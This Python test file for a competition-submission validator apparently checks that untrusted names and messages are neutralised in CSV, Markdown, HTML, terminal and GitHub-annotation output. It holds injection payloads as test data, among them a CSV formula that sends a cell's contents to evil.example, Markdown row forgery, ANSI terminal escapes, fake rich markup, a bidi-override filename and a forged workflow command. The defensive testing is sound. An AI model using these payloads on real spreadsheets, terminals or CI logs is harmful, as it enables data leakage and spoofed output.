"""Untrusted text against every reporter, written as the attacks that got through.

A bare CR in a team name split a CSV row for readers that break rows at CR, which put a
formula cell past the guard and injected rows into the Markdown table; ANSI escape
sequences and rich markup in messages and zip names reached the organizer's terminal.
"""

from __future__ import annotations

import csv
import io
import re

from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from esr_validator.batch.display import Display, Outcome
from esr_validator.batch.leaderboard import Board, Entry, TrackBoard
from esr_validator.batch.page import html_text
from esr_validator.batch.tables import csv_text, md_text
from esr_validator.github import annotations as gh
from esr_validator.github.summary import md
from esr_validator.reporters.text import metrics_table, print_findings
from esr_validator.schemas.findings import Finding, Severity
from esr_validator.scoring import LeaderboardRow
from esr_validator.text import clean, for_csv
from tests.signing_support import make_report

CR_FORMULA = 'Team\r=HYPERLINK("http://evil.example/?"&A1,"click")'
MD_ROWS = "nice | 99 |\n| 1 | evil | pwned | 0.0 | |\r| 2 | evil2"
ANSI = "\x1b[2J\x1b]0;owned\x07\x1b[31mFAKE\x1b[0m"
MARKUP = "[bold green]PASS[/] [link=http://evil.example]click[/link]"
BIDI = "team\u202eexe.txt"
FORMULA_START = ("=", "+", "-", "@")


def _board(team_name: str, message: str = "boom") -> Board:
    def entry(name: str, **kw: object) -> Entry:
        base: dict[str, object] = {
            "name": name,
            "report": f"reports/{name}.json",
            "status": "evaluated",
            "psnr": {"valid": 27.0},
            "ranks": {"main": None},
            "notes": {"main": ""},
        }
        return Entry.model_validate(base | kw)

    entries = [
        entry("a", team_name=team_name, team_id=1, runtime_ms=10.0, ranks={"main": 1}),
        entry(
            "b",
            team_name="honest",
            team_id=2,
            status="failed",
            failure="crashed",
            failure_message=message,
            psnr={},
        ),
    ]
    rows = [
        LeaderboardRow(track="main", entry="a", rank=1, value=1.0),
        LeaderboardRow(track="main", entry="b", rank=None, value=None, note="x"),
    ]
    return Board(
        ruleset="r",
        ruleset_version="1",
        title="T",
        splits=["valid"],
        higher_is_better=False,
        tracks=[TrackBoard(name="main", title="Main", rank_by="score", rows=rows)],
        entries=entries,
    )


# --- CSV --------------------------------------------------------------------------------------


def test_bare_cr_in_a_team_name_neither_splits_the_row_nor_smuggles_a_formula() -> None:
    text = csv_text(_board(CR_FORMULA, message=ANSI))
    # A reader that breaks rows at CR (and at every other line break Python knows).
    physical = text.splitlines()
    assert len(physical) == 3  # header + two entries: nothing split
    for line in physical:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(FORMULA_START) or cell.lstrip("-").replace(".", "").isdigit()
    (team,) = [r["team_name"] for r in csv.DictReader(io.StringIO(text)) if r["entry"] == "a"]
    assert team.startswith("Team =HYPERLINK")  # kept readable, on one line
    assert "\x1b" not in text


@given(st.text(max_size=60))
def test_no_cell_starts_a_formula_after_normalisation(text: str) -> None:
    cell = for_csv(text)
    assert not set(cell) & set("\r\n\x0b\x0c\x85\u2028\u2029")
    assert not cell.lstrip().startswith(FORMULA_START) or _number(cell)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# --- Markdown and HTML ------------------------------------------------------------------------


def test_team_name_cannot_inject_rows_into_the_markdown_table() -> None:
    board = _board(MD_ROWS, message="line one\r| 9 | injected | x | 0 |")
    lines = md_text(board).splitlines()
    table = [line for line in lines if line.startswith("|")]
    assert len(table) == 2 + 2 + 3  # main: head, rule, 2 rows; failures: head, rule, 1 row
    assert not any("| 1 | evil" in line or "| 9 | injected" in line for line in lines)
    for line in table:  # every unescaped pipe is a column border: the column count holds
        assert len(re.findall(r"(?<!\\)\|", line)) == 6


def test_pr_summary_cells_stay_one_inert_line() -> None:
    cell = md(MD_ROWS + ANSI + BIDI)
    assert "\n" not in cell and "\r" not in cell and "\x1b" not in cell and "\u202e" not in cell
    assert not re.search(r"(?<!\\)\|", cell)


def test_html_page_carries_no_controls_or_bidi_overrides() -> None:
    page = html_text(_board(BIDI + "<b>" + ANSI))
    assert "\u202e" not in page and "\x1b" not in page and "<b>" not in page
    assert "team\\u202eexe.txt" in page  # visible, not acting


# --- terminal ---------------------------------------------------------------------------------


def _console() -> tuple[Console, io.StringIO]:
    buf = io.StringIO()
    return Console(file=buf, force_terminal=False, color_system=None, width=400), buf


def test_ansi_and_markup_in_messages_and_zip_names_do_not_reach_the_terminal() -> None:
    console, buf = _console()
    finding = Finding(
        code="ESR601",
        name="worker-crashed",
        severity=Severity.ERROR,
        path="models/" + ANSI + ".py",
        message=ANSI + MARKUP,
        hint=MARKUP,
    )
    print_findings(console, [finding], subject="team16" + ANSI + MARKUP + ".zip")
    report = make_report()
    report = report.model_copy(
        update={"submission": report.submission.model_copy(update={"zip_name": MARKUP + ANSI})}
    )
    console.print(metrics_table(report))
    out = buf.getvalue()
    assert "\x1b" not in out and "\x07" not in out
    assert "[bold green]PASS[/]" in out  # printed as text, not as a green PASS
    assert "[link=http://evil.example]" in out
    assert "\\x1b[31mFAKE" in out  # the escape is shown, not obeyed


def test_batch_progress_lines_escape_names_and_messages() -> None:
    console, buf = _console()
    display = Display(console, live=False)
    display.ended(
        Outcome(
            name=MARKUP + ANSI,
            category="crashed",
            status="failed",
            new=True,
            message=ANSI + "\n" + MARKUP,
        )
    )
    out = buf.getvalue()
    assert "\x1b" not in out and "[bold green]PASS[/]" in out


def test_annotation_carries_no_ansi_into_the_step_log() -> None:
    finding = Finding(
        code="ESR601",
        name="worker-crashed",
        severity=Severity.ERROR,
        path=BIDI,
        message=ANSI + "\n::error::forged",
    )
    line = gh.annotation(gh.Located(finding))
    assert "\x1b" not in line and "\u202e" not in line and "\n" not in line and "\r" not in line


# --- the normalisation itself -----------------------------------------------------------------

_DANGEROUS = {chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)]} | set(
    "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029"
)


@given(st.text())
def test_clean_leaves_no_control_bidi_or_line_break(text: str) -> None:
    assert not set(clean(text)) & _DANGEROUS
    multi = clean(text, multiline=True)
    assert not set(multi) & (_DANGEROUS - {"\n"})


@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cf", "Zl", "Zp"))))
def test_clean_keeps_ordinary_text_as_is(text: str) -> None:
    assert clean(text) == text


def test_markdown_reporter_cells_cannot_add_rows_links_or_html() -> None:
    from esr_validator.reporters.markdown import findings_md

    finding = Finding(
        code="ESR601",
        name="worker-crashed",
        severity=Severity.ERROR,
        message=MD_ROWS + "[x](http://evil.example) <img src=x>" + ANSI,
    )
    text = findings_md([finding], subject="team\r| 1 | forged |")
    table = [line for line in text.splitlines() if line.startswith("|")]
    assert len(table) == 3  # head, rule, one finding
    assert not re.search(r"(?<!\\)\]\(http", text) and not re.search(r"(?<!\\)<img", text)
    assert "\x1b" not in text and "\r" not in text
